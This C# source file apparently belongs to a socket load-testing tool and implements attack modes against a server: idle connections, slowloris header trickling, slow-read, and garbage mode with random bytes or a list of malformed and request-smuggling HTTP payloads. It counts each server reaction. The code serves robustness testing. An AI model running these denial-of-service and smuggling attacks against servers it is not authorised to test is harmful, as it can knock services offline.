using System.Text;
using Sockit.Transport;

namespace Sockit.Load;

/// <summary>
/// The attack modes, one connection after another: connect, attack (idle, slowloris, slow-read, garbage), and watch
/// how the server meets it — it answers, closes, resets, lets the timeout pass, or leaves the connection open until the
/// run ends. Each outcome is counted; a connection the server ended is replaced, so the pressure stays. Reset mode is
/// <see cref="ConnectWorker"/> with an abortive close.
/// </summary>
internal sealed class AttackWorker(LoadRun run, int index) : LoadWorker(run, index)
{
    public const string Answered = "answered", Closed = "closed", WasReset = "reset", TimedOut = "timed out", StillOpen = "still open";

    /// <summary>What slowloris trickles: a request line, then header lines for ever.</summary>
    private static readonly byte[] SlowHead = Encoding.ASCII.GetBytes("GET / HTTP/1.1\r\nHost: sockit\r\nUser-Agent: sockit-slowloris\r\n" +
        string.Concat(Enumerable.Repeat("X-Slow: sockit\r\n", 4096)));

    /// <summary>Malformed and smuggling requests, one per garbage connection in turn (RFC 9112's usual suspects).</summary>
    private static readonly string[] BadRequests =
    [
        "GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: a\r\nBad Header: x\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: a\r\n folded: x\r\n\r\n",
        "GET /\0 HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET / HTTP/9.9\r\nHost: a\r\n\r\n",
        "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", // a TLS ClientHello on a plain port
        "GET / HTTP/1.1\r\nHost: a\r\nX-Huge: " + new string('a', 70_000) + "\r\n\r\n",
    ];

    private int _garbageTurn = index;

    public override async Task RunAsync()
    {
        while (Run.MayStart())
        {
            Connection connection;
            try
            {
                await NextStartAsync().ConfigureAwait(false);
                BeginRequest();
                connection = await ConnectAsync(Options.Mode == LoadMode.SlowRead ? 1024 : null).ConfigureAwait(false);
                Watch(connection);
                Completed(0); // the latency of an attack is its connect's
            }
            catch (Exception ex) when (IsRequestFailure(ex))
            {
                if (!await FailedAsync(ex).ConfigureAwait(false)) break;
                continue;
            }
            var outcome = await AttackAsync(connection).ConfigureAwait(false);
            connection.Dispose();
            if (outcome == StillOpen && !Run.Stop.IsCancellationRequested && Run.MayStart()) continue; // not an outcome: the attack ran its course
            CountOutcome(outcome);
        }
    }

    private Task<string> AttackAsync(Connection connection) => Options.Mode switch
    {
        LoadMode.Idle => WatchAsync(connection, Timeout.InfiniteTimeSpan),
        LoadMode.Slowloris => TrickleAsync(connection),
        LoadMode.SlowRead => SlowReadAsync(connection),
        _ => GarbageAsync(connection),
    };

    /// <summary>Sends the slow head a byte each interval while watching for the server's reaction.</summary>
    private async Task<string> TrickleAsync(Connection connection)
    {
        var watching = WatchAsync(connection, Timeout.InfiniteTimeSpan);
        for (var i = 0; i < SlowHead.Length && !watching.IsCompleted; i++)
        {
            try
            {
                await connection.SendAsync(SlowHead.AsMemory(i, 1)).ConfigureAwait(false);
                Streamed(1, sent: true);
                await Task.WhenAny(watching, Task.Delay(Options.Interval, Run.Stop)).ConfigureAwait(false);
            }
            catch (Exception ex) when (ex is SockitException or ObjectDisposedException)
            {
                break; // the watch says how it ended
            }
            catch (OperationCanceledException)
            {
                return StillOpen;
            }
        }
        return await watching.ConfigureAwait(false);
    }

    /// <summary>Asks for a large answer, then reads it a few bytes each interval through a 1 KiB receive window.</summary>
    private async Task<string> SlowReadAsync(Connection connection)
    {
        ValueTask? sending = null;
        var sentCounted = false;
        // The request counts as sent once it went out whole, whatever the server did after.
        void CountSent()
        {
            if (sentCounted || sending is not { IsCompletedSuccessfully: true }) return;
            sentCounted = true;
            Streamed(Options.Message.Length, sent: true);
        }
        try
        {
            sending = connection.SendAsync(Options.Message);
            var buffer = new byte[16];
            while (true)
            {
                var read = await connection.ReceiveAsync(buffer).ConfigureAwait(false);
                CountSent();
                if (read == 0) return Closed;
                Streamed(read, sent: false);
                await Task.Delay(Options.Interval, Run.Stop).ConfigureAwait(false);
                if (sending.Value.IsCompleted && !connection.HasUnreadBytes) return Answered; // the whole answer, read slowly
            }
        }
        catch (SockitException ex) when (ex.Error == SockitError.ConnectionReset)
        {
            CountSent();
            return WasReset;
        }
        catch (Exception ex) when (ex is OperationCanceledException or ObjectDisposedException or SockitException)
        {
            CountSent();
            return StillOpen;
        }
    }

    /// <summary>Sends random bytes (or the next malformed request) and waits, for the timeout, to see what the server does.</summary>
    private async Task<string> GarbageAsync(Connection connection)
    {
        var payload = Options.GarbageHttp
            ? Encoding.Latin1.GetBytes(BadRequests[_garbageTurn++ % BadRequests.Length])
            : Random.Shared.GetItems<byte>(Enumerable.Range(0, 256).Select(b => (byte)b).ToArray(), Options.Message.Length);
        try
        {
            await connection.SendAsync(payload).ConfigureAwait(false);
            Streamed(payload.Length, sent: true);
        }
        catch (SockitException ex) when (ex.Error == SockitError.ConnectionReset)
        {
            return WasReset;
        }
        catch (Exception ex) when (ex is SockitException or ObjectDisposedException)
        {
            return Closed;
        }
        connection.ShutdownSend(); // nothing more is coming: a server that waits for more is waiting for nothing
        return await WatchAsync(connection, Options.Timeout).ConfigureAwait(false);
    }

    /// <summary>Waits for the server's first reaction: bytes (answered), EOF (closed), a reset, or none before <paramref name="timeout"/> or the end.</summary>
    private async Task<string> WatchAsync(Connection connection, TimeSpan timeout)
    {
        using var limit = CancellationTokenSource.CreateLinkedTokenSource(Run.Stop);
        if (timeout != Timeout.InfiniteTimeSpan) limit.CancelAfter(timeout);
        var buffer = new byte[4096];
        try
        {
            var read = await connection.ReceiveAsync(buffer, limit.Token).ConfigureAwait(false);
            if (read == 0) return Closed;
            Streamed(read, sent: false);
            return Answered;
        }
        catch (SockitException ex) when (ex.Error == SockitError.ConnectionReset)
        {
            return WasReset;
        }
        catch (OperationCanceledException) when (!Run.Stop.IsCancellationRequested)
        {
            return TimedOut;
        }
        catch (Exception ex) when (ex is OperationCanceledException or ObjectDisposedException or SockitException)
        {
            return StillOpen;
        }
    }
}
